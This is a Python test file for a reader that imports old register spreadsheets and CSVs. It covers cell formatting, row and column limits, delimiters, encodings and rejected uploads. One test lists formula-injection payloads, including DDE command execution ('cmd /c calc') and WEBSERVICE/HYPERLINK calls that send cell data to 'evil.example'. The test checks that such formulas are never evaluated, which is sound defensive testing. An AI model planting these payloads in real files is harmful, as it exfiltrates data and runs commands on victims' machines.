"""The lines of an older register, read as texts; what a workbook would work out is refused."""

import datetime as dt
import io
from collections.abc import Sequence
from typing import Any

import pytest
from openpyxl import Workbook

from server.uploads.reading.old_books import LINES, old_books
from server.uploads.reading.tables import COLUMNS, LONGEST
from workflows import Refused


def old_book(data: bytes, name: str) -> list[dict[str, Any]]:
    """The lines of its first sheet that has any."""
    lines: list[dict[str, Any]] = old_books(data, name)[0]["lines"]
    return lines


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def workbook(*rows: Sequence[Any]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    return saved(book)


def only(*rows: Sequence[Any]) -> list[list[str]]:
    return [line["cells"] for line in old_book(workbook(*rows), "so.xlsx")]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (dt.datetime.fromisoformat("2021-01-04T08:30"), "04/01/2021"),
        (dt.date(2021, 1, 4), "04/01/2021"),
        (15, "15"),
        (15.0, "15"),
        (15.5, "15.5"),
        (True, "x"),
        ("  Sở\n Nội  vụ ", "Sở Nội vụ"),
        ("0012", "0012"),
        ("'=1", "'=1"),
        ("đ" * (LONGEST + 9), "đ" * LONGEST),
    ],
)
def test_a_cell_is_what_a_person_reads_in_it(value, text):
    assert only(["a", value]) == [["a", text]]


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|'/c calc'!A1",
        '=WEBSERVICE("http://evil.example/"&A1)',
        "=[1]Sheet1!A1",
        "=SUM(A:A)",
    ],
)
def test_a_formula_is_its_place_and_never_a_value(formula):
    (line,) = old_book(workbook(["a", formula, "c"]), "so.xlsx")
    assert (line["cells"], line["formulas"]) == (["a", "", "c"], [1])


@pytest.mark.parametrize("error", ["#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?"])
def test_an_error_that_a_formula_left_behind_is_no_value_either(error):
    book = Workbook()
    book.active.append(["a", "b", "c"])
    book.active["B1"].value, book.active["B1"].data_type = error, "e"
    out = io.BytesIO()
    book.save(out)
    (line,) = old_book(out.getvalue(), "so.xlsx")
    assert (line["cells"], line["formulas"]) == (["a", "", "c"], [1])


def test_a_formula_at_the_end_of_a_line_is_not_overlooked():
    (line,) = old_book(workbook(["a", "=B1"]), "so.xlsx")
    assert line["formulas"] == [1]


def test_a_line_is_counted_as_the_sheet_counts_it_and_empty_ones_are_passed_over():
    lines = old_book(workbook(["a"], [], [None, ""], ["b"]), "so.xlsx")
    assert [(one["n"], one["cells"]) for one in lines] == [(1, ["a"]), (4, ["b"])]


def test_each_sheet_with_lines_is_read():
    book = Workbook()
    book.create_sheet("Hai").append(["hai"])
    book.create_sheet("Ba").append(["ba"])
    sheets = old_books(saved(book), "so.xlsx")
    assert [(one["name"], one["lines"][0]["cells"]) for one in sheets] == [
        ("Hai", ["hai"]), ("Ba", ["ba"]),
    ]  # fmt: skip


def test_columns_beyond_the_thirtieth_are_not_read():
    (cells,) = only([str(n) for n in range(COLUMNS + 5)])
    assert len(cells) == COLUMNS


def test_so_many_lines_are_taken_and_no_more():
    text = "đầu\n" + "1\n" * LINES
    assert len(old_book(text.encode(), "so.csv")) == LINES + 1
    with pytest.raises(Refused, match=r"^takeover_too_long$"):
        old_book(f"{text}1\n".encode(), "so.csv")


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        ("a,b\n", ["a", "b"]),
        ("a;b\n", ["a", "b"]),
        ("a\tb\n", ["a", "b"]),
        ('a,"b,c"\n', ["a", "b,c"]),
        ('a;"b\nc"\n', ["a", "b c"]),
        ('a;"b ""c"""\r\n', ["a", 'b "c"']),
        ("một mình\n", ["một mình"]),
    ],
)
def test_a_csv_is_parted_as_its_first_line_is(text, cells):
    assert old_book(text.encode(), "so.csv")[0]["cells"] == cells


@pytest.mark.parametrize("name", ["so.csv", "SO.CSV", "so.txt"])
def test_a_csv_is_known_by_its_name(name):
    assert old_book(b"a;b\n", name)[0]["formulas"] == []


@pytest.mark.parametrize(
    ("data", "name", "reason"),
    [
        ("số đến;ngày".encode("cp1258", "ignore") + b"\x81\x8d", "so.csv", "takeover_not_unicode"),
        (b"\xff\xfea", "so.csv", "takeover_not_unicode"),
        (b"", "so.csv", "takeover_is_empty"),
        (b";;;\n;;\n", "so.csv", "takeover_is_empty"),
        (saved(Workbook()), "so.xlsx", "takeover_is_empty"),
        (b"%PDF-1.7", "so.xlsx", "not_a_workbook"),
    ],
)
def test_what_has_no_lines_is_refused(data, name, reason):
    with pytest.raises(Refused, match=f"^{reason}$"):
        old_book(data, name)
